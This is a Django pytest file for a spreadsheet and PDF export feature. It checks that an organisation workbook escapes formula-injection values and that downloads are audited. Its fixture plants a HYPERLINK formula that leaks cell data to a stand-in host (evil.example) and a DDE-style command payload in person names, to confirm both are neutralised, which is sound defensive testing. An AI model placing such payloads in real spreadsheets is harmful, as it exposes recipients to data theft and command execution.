"""The organisation XLSX escapes names a spreadsheet would run; it and the report PDF
are audited on every download."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from bellwether.assessments.tests.factories import make_cycle
from bellwether.assessments.tests.reporting import make_person, rated, stored, uniform
from bellwether.core.exports import FORMULA_TRIGGERS
from bellwether.core.models import AuditEvent
from bellwether.people.models import OrgUnit

pytestmark = pytest.mark.django_db

UNIT = '=HYPERLINK("http://evil.example/?"&A1,"Sales")'


@pytest.fixture
def cycle(org):
    cycle = make_cycle(organisation=org, opens_at=timezone.now() - dt.timedelta(days=20))
    unit = OrgUnit.objects.create(organisation=org, code="S", name=UNIT)
    unit.path = f"/{unit.pk}/"
    unit.save()
    for n in range(6):
        leader = make_person(org, org_unit=unit, name=f"+cmd|' /C calc'!A{n}")
        stored(org, leader, cycle, uniform(4))
    return cycle


def test_the_organisation_workbook_escapes_names_and_keeps_numbers(client_for, cycle, members):
    response = client_for("admin").get(
        reverse("assessments:organisation_export") + f"?cycle={cycle.pk}"
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    values = [c.value for c in cells]
    assert "'" + UNIT in values
    assert "'+cmd|' /C calc'!A0" in values
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [v for v in values if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)] == []
    leaders = list(book["Leaders"].iter_rows(min_row=2, values_only=True))
    assert all(isinstance(row[2], int | float) for row in leaders)  # totals stay numbers
    event = AuditEvent.objects.get(action="readiness.organisation_exported")
    assert (event.actor, event.target_id) == (members["admin"].user, str(cycle.pk))
    assert event.details == {"format": "xlsx", "filters": {"cycle": str(cycle.pk)}}


def test_a_refused_export_is_not_recorded_as_a_download(client_for, cycle):
    assert client_for("coach").get(reverse("assessments:organisation_export")).status_code == 403
    assert not AuditEvent.objects.filter(action="readiness.organisation_exported").exists()


def test_the_report_pdf_download_is_audited(client_for, org, leader_person, members):
    rated(
        org,
        leader_person,
        self_answers=uniform(4),
        others=[("manager", uniform(3)), *[("peer", uniform(3)) for _ in range(3)]],
        opens_at=timezone.now() - dt.timedelta(days=20),
    )
    response = client_for("admin").get(reverse("assessments:report_pdf", args=[leader_person.pk]))
    assert response["Content-Type"] == "application/pdf"
    event = AuditEvent.objects.get(action="readiness.report_downloaded")
    assert (event.actor, event.target_id) == (members["admin"].user, str(leader_person.pk))
    assert event.details["format"] == "pdf"
